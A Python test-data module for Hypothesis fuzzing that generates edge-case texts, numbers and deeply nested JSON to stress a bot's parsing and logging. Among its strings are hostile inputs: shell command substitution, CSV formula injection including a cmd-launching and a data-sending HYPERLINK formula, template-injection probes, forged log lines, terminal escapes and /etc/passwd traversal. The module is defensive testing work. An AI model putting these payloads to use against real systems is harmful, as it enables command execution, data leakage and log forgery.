"""Values that programs stumble over: texts, numbers, and JSON of any shape."""

import copy
import json
import re

from hypothesis import strategies as st

FORGED = "FORGED"  # stands in what would be a line of its own, if a line could be forged
LINE = f"\n2026-11-30 03:04:05 ERROR   bot.lines: {FORGED}\n"
TEXTS = (
    "",
    " ",
    "\x00",
    "办\x00事",
    "\ud800",
    "乱\udfff码",
    "\ufeff\u200b\u200d",
    "\u202eexe.xcod\u202c\u2066",
    "\x1b[2J\x1b]0;owned\x07",
    "\x9b31m",
    LINE,
    f"\r{LINE}\u2028\u2029",
    "<b>未闭合 & </i><a href='tg://user?id=1'>x</a>",
    "&lt;&#0;&#x110000;",
    "{{ 7 * 7 }}{% for x in y %}{# x #}",
    "{{ forms.__class__.__mro__ }}",
    "%s%n%(x)s{0}{x}",
    "$(id)`id`;--'\"\\",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x/?"&A1)',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "]]>",
    "ＦＵＬＬ ½ ﷽ 𝕳𝖊 🏳️‍🌈👩‍👩‍👧‍👦🇨🇳",
    "é" * 40,
    "a" + "\u0301" * 200,
    "/start",
    "/" + "x" * 300,
    "../../etc/passwd",
    "file:///etc/passwd",
    "9" * 400,
    "-0",
    "1e400",
    "NaN",
    "٣٤٥",
    "0001-01-01",
    "9999-12-31",
    "2020-02-30",
    "4096" * 1024,
    "长" * 4096,
    "👍" * 2048,
)
# What is markup, a formula or a control to something that the words come to.
_HARM = re.compile(r"[<{&%$\x00-\x1f\x80-\x9f\u202e\ud800-\udfff]|^[=+@＝-]")
HARMFUL = tuple(text for text in TEXTS if _HARM.search(text))
NUMBERS = (0, -1, 1, 2, 255, 2**31 - 1, 2**31, 2**53, 2**63 - 1, 2**63, -(2**63), 2**64, 10**17)
FLOATS = (-0.0, 0.5, -1.5, 1e300, 90.0, 180.0001, float("inf"), float("nan"))

texts = st.sampled_from(TEXTS) | st.text(max_size=40) | st.sampled_from(TEXTS).map("办事慢".__add__)
numbers = st.sampled_from(NUMBERS) | st.integers()
scalars = st.none() | st.booleans() | numbers | st.sampled_from((*FLOATS, 10**40)) | texts


DEEP = tuple(f"<nested {depth} times>" for depth in (30, 200, 400, 900, 3000, 100_000))
shapes = st.sampled_from(([], {}, [[]], [{}], [None], {"id": {}}, {"": ""}, *DEEP))
anything = scalars | shapes.map(copy.copy)


def as_json(value: object) -> str:
    """The text of a value; what says that it is deep, is."""
    text = json.dumps(value)
    for mark in DEEP:
        if mark in text:
            depth = int(mark.split()[1])
            nested = '{"reply_to_message":' * depth + "{}" + "}" * depth
            text = text.replace(json.dumps(mark), nested)
    return text


_HELD_BY_TOML = tuple(text for text in TEXTS if "\ud800" not in text and "\udfff" not in text)
as_toml = st.one_of(
    st.booleans(),
    st.sampled_from((*NUMBERS[:9], 0.5, -1.5, 1e300, float("inf"), float("nan"))),
    st.sampled_from(_HELD_BY_TOML) | st.text(max_size=20),
    st.dates() | st.datetimes() | st.times(),
    st.sampled_from(("[]", "{}", "[[]]", "[{}]")).map(json.loads),
)
